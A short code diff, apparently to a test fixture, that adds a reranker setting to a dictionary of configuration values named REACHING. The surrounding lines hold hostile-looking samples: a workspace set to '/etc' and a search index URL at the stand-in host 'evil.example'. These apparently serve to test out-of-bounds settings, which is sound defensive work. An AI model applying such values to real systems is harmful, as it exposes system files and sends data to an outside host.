@@ -18,6 +18,7 @@ REACHING = {
     "workspaces": "[/etc]",
     "search.embedding_model": "text-embedding-3-small",
     "search.embedding_dimensions": "1536",
+    "search.reranker": "ms-marco-minilm",
     "search.index": "'postgresql://evil.example/x'",
     "watchers.gate_model": "haiku",
     "lifecycle.model": "haiku",
